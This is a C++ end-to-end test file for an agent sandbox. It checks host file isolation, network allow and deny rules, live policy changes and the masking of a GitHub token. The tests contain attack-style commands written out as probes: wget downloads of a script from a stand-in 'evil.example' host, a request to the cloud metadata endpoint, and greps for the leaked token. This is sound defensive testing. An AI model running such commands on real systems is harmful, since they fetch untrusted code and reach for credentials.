// What a sandbox sees and reaches, from inside: the six isolation tests that Docker publishes for
// its sandboxes, and a policy that changes while it runs.
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>

#include "tests/e2e/harness/sandboxes.h"
#include "tests/egress/gateway/world.h"

namespace agentvm::e2e {
namespace {

using egress::NameServer;
using testing::AllOf;
using testing::HasSubstr;
using testing::Not;

class SandboxNetwork : public Sandboxes {
 protected:
  void prepare_daemon() override {
    Sandboxes::prepare_daemon();
    daemon_options = {"--dns", "10.88.0.1"};
    for (const char* address : {"5.6.7.8/32", "5.6.7.66/32"}) {
      (void)network_->run_outside({"ip", "addr", "add", address, "dev", "lo"});
    }
    names_ = std::make_unique<NameServer>(
        network_->path() + "-out",
        std::map<std::string, egress::Zone>{{"registry.example", {.addresses = {"5.6.7.8"}}},
                                            {"evil.example", {.addresses = {"5.6.7.66"}}}});
    std::filesystem::create_directory(scratch() + "/served");
    write_file(scratch() + "/served/tool", "#!/bin/sh\necho installed\n");
    servers_ = std::make_unique<Background>(
        network_->outside({"busybox", "httpd", "-f", "-p", "80", "-h", scratch() + "/served"}));
  }
  void TearDown() override {
    Sandboxes::TearDown();
    servers_.reset();
    names_.reset();
  }

  // In the sandbox "web": what it printed, both streams.
  [[nodiscard]] std::string attempt(const std::string& script) const {
    const Outcome outcome = sandbox({"exec", "web", "sh", "-c", script});
    return outcome.out + outcome.err;
  }

 private:
  std::unique_ptr<NameServer> names_;
  std::unique_ptr<Background> servers_;
};

TEST_F(SandboxNetwork, SeesItsWorkspaceAndReachesWhatIsAllowed) {
  write_file(scratch() + "/of-the-host", "secret\n");
  write_file(workspace() + "/shared", "shared\n");
  std::vector<std::string> run = run_words("web");
  run.insert(run.end(), {"--detach", "--network-allow", "registry.example", "--", "sh", "-c",
                         "exec sleep 1000"});
  sandbox_out(run);

  // The host's files, and its Docker.
  EXPECT_THAT(attempt("cat " + scratch() + "/of-the-host"), HasSubstr("No such file"));
  EXPECT_EQ(exec_out("web", "ls " + scratch()), "work\n");
  EXPECT_EQ(exec_out("web", "cat shared"), "shared\n");
  EXPECT_EQ(exec_out("web", "ls -d /var/run/docker.sock /run/docker.sock " + scratch() +
                                "/docker.sock 2>/dev/null; ls /proc/1/root/" + scratch()),
            "work\n");
  EXPECT_NE(sandbox({"exec", "--root", "web", "touch", "/run/agentvm-sandbox/x"}).status, 0);

  // What is installed from an allowed registry stays inside.
  EXPECT_EQ(exec_out("web",
                     "wget -q -O /bin/tool http://registry.example/tool && chmod +x /bin/tool && "
                     "tool"),
            "installed\n");
  EXPECT_FALSE(std::filesystem::exists("/bin/tool"));

  // What is denied: a name, an address, the clouds' metadata.
  EXPECT_THAT(attempt("wget -O - http://evil.example/tool"), HasSubstr("bad address"));
  EXPECT_THAT(attempt("wget -O - http://5.6.7.66/tool"), Not(HasSubstr("installed")));
  EXPECT_EQ(attempt("timeout 3 wget -q -O - http://169.254.169.254/ || echo $?"),
            "143\nTerminated\n");
  EXPECT_EQ(sandbox({"policy", "check", "web", "evil.example:80"}).status, 1);

  // A change holds at once.
  const Outcome allowed = sandbox({"policy", "allow", "--sandbox", "web", "evil.example:80"});
  EXPECT_THAT(allowed.err, HasSubstr("told 1 running sandboxes"));
  EXPECT_THAT(attempt("wget -q -O - http://evil.example/tool"), HasSubstr("installed"));
  EXPECT_EQ(sandbox({"policy", "check", "web", "evil.example:80"}).status, 0);
  sandbox_out({"policy", "deny", "*"});
  EXPECT_THAT(attempt("wget -q -O - http://registry.example/tool"), Not(HasSubstr("installed")));
  const std::string log = sandbox_out({"policy", "log", "web"});
  EXPECT_THAT(log, AllOf(HasSubstr("deny  dns  evil.example"), HasSubstr("registry.example")));
  EXPECT_THAT(sandbox_out({"policy", "log", "--json", "--denied", "web"}),
              Not(HasSubstr("\"verdict\":\"allow\"")));

  // Reset: clean, with the workspace as it was.
  sandbox_out({"reset", "--force", "web"});
  EXPECT_NE(sandbox({"exec", "web", "test", "-e", "/bin/tool"}).status, 0);
  EXPECT_EQ(exec_out("web", "cat shared"), "shared\n");
}

TEST_F(SandboxNetwork, IsTheWorkspacesOwnerAndHoldsAPlaceholderWhereTheKeyWouldBe) {
  ASSERT_EQ(::chown(workspace().c_str(), 1234, 1235), 0);
  CommandOptions key;
  key.environment = {"GH_TOKEN=ghp-of-the-host"};
  std::vector<std::string> run = run_words("web");
  run.insert(run.end(), {"--detach", "--", "sh", "-c", "exec sleep 1000"});
  const Outcome started = sandbox(run, key);
  ASSERT_EQ(started.status, 0) << started.err;
  EXPECT_EQ(exec_out("web",
                     "echo $GH_TOKEN $GITHUB_TOKEN; cat /proc/*/environ | grep -c ghp-of; "
                     "test -s $NODE_EXTRA_CA_CERTS && echo trusted"),
            "proxy-managed proxy-managed\n0\ntrusted\n");
  EXPECT_EQ(exec_out("web", "id -un; id -u; id -g; echo $HOME; touch made; touch ~/made; pwd"),
            "agent\n1234\n1235\n/home/agent\n" + workspace() + "\n");
  struct stat made{};
  ASSERT_EQ(::stat((workspace() + "/made").c_str(), &made), 0);
  EXPECT_EQ(made.st_uid, 1234U);
  EXPECT_EQ(exec_out("web", "ps -o user,args | grep -c 'agent *sleep 1000'"), "1\n");
  EXPECT_EQ(sandbox_out({"exec", "--root", "web", "id", "-u"}), "0\n");
  EXPECT_EQ(attempt("grep -rs ghp-of /run /etc /tmp /root /home"), "");
  EXPECT_THAT(docker_out({"inspect", "web"}), Not(HasSubstr("ghp-of")));
}

}  // namespace
}  // namespace agentvm::e2e
